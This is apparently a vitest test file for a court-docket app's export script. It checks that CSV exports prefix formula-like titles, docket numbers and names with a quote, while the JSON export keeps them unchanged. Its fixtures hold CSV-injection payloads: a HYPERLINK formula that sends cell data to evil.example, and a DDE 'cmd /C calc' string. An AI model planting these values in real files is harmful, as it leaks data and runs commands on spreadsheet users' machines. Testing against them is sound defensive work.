// CSV exports are opened in spreadsheets: a title, docket number or official's name
// that starts like a formula must arrive as text (OWASP's CSV injection rule), while
// the JSON dataset export keeps every value exactly as it was imported.
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { importDatasetText } from "@/lib/dataset/import";

import { runScript, type Run } from "./support/cli";
import { createTestDatabase, type TestDatabase } from "./support/database";

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the docket")';
const DOCKET = "+1:18-cv-00939";
const OFFICIAL = "@SUM(1+1)*cmd|' /C calc'!A0";
// Imports trim text, so a leading tab or carriage return never reaches a cell; a minus does.
const MINUS_TITLE = "-2 days to answer: the motion for more time";

const dataset = {
  format: "docketline/v1",
  courts: [{ id: "formula-court", shortName: "F. Ct.", fullName: "Court of Formulas" }],
  officials: [{ id: "formula-official", name: OFFICIAL, office: "Attorney General", jurisdiction: "NM" }],
  lawsuits: [
    {
      id: "formula-lawsuit",
      caseName: "-State v. Spreadsheet",
      caseNameShort: "State v. Spreadsheet",
      court: "formula-court",
      docketNumber: DOCKET,
      dateFiled: "2030-01-02",
      status: "open",
      summary: "=1+1",
      plaintiffs: [{ jurisdiction: "NM", role: "lead" }],
      sources: [{ url: "https://example.org/complaint.pdf", title: "Complaint", publisher: "Office of the Attorney General" }],
    },
  ],
  filings: [
    {
      id: "formula-filing",
      lawsuit: "formula-lawsuit",
      kind: "motion",
      title: HYPERLINK,
      dateFiled: "2030-01-03",
      summary: "@the summary",
      states: [{ jurisdiction: "NM", role: "lead", official: "formula-official" }],
      demands: [],
      sources: [{ url: "https://example.org/motion.pdf", title: "Motion", publisher: "Office of the Attorney General" }],
    },
    {
      id: "formula-filing-minus",
      lawsuit: null,
      kind: "letter",
      title: MINUS_TITLE,
      dateFiled: "2030-01-04",
      summary: "A letter.",
      states: [{ jurisdiction: "NM", role: "lead" }],
      demands: [],
      sources: [{ url: "https://example.org/letter.pdf", title: "Letter", publisher: "Office of the Attorney General" }],
    },
  ],
};

function runExport(args: string[], databaseUrl: string): Promise<Run> {
  return runScript("export.mts", args, { DATABASE_URL: databaseUrl, DOCKETLINE_PUBLIC_URL: "https://docketline.example" });
}

describe("Formula-like text in CSV exports", { timeout: 120_000 }, () => {
  let database: TestDatabase;
  let dir: string;

  beforeAll(async () => {
    database = await createTestDatabase();
    dir = await mkdtemp(path.join(tmpdir(), "docketline-formula-"));
    await importDatasetText(database.sql, JSON.stringify(dataset));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
    await database.drop();
  });

  it("filings.csv writes a title, a docket number and a minus-led title that start a formula as quoted text", async () => {
    const file = path.join(dir, "filings.csv");
    const run = await runExport(["--state", "NM", file], database.url);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const rows: Record<string, string>[] = parse(await readFile(file, "utf8"), { columns: true });
    const byId = Object.fromEntries(rows.map((row) => [row.id, row]));
    expect(byId["formula-filing"].title).toBe(`'${HYPERLINK}`);
    expect(byId["formula-filing"].docketNumber).toBe(`'${DOCKET}`);
    expect(byId["formula-filing-minus"].title).toBe(`'${MINUS_TITLE}`);
    // Everything else is left as it is: dates, ids, counts and links never start a formula.
    expect(byId["formula-filing"]).toMatchObject({ dateFiled: "2030-01-03", kind: "motion", demandCount: "0", url: "https://docketline.example/filings/formula-filing" });
  });

  it("filing-states.csv writes an official's name that starts a formula as quoted text", async () => {
    const file = path.join(dir, "filing-states.csv");
    const run = await runExport(["--state", "NM", "--per-state", file], database.url);
    expect(run.code).toBe(0);
    const rows: Record<string, string>[] = parse(await readFile(file, "utf8"), { columns: true });
    expect(rows.find((row) => row.filingId === "formula-filing")?.officialName).toBe(`'${OFFICIAL}`);
  });

  it("the JSON dataset export keeps the same values unchanged", async () => {
    const file = path.join(dir, "dataset.json");
    const run = await runExport([file], database.url);
    expect(run.code).toBe(0);
    const exported = JSON.parse(await readFile(file, "utf8"));
    expect(exported.filings.find((f: { id: string }) => f.id === "formula-filing")).toMatchObject({ title: HYPERLINK, summary: "@the summary" });
    expect(exported.filings.find((f: { id: string }) => f.id === "formula-filing-minus").title).toBe(MINUS_TITLE);
    expect(exported.lawsuits[0]).toMatchObject({ docketNumber: DOCKET, caseName: "-State v. Spreadsheet", summary: "=1+1" });
    expect(exported.officials[0].name).toBe(OFFICIAL);
  });
});
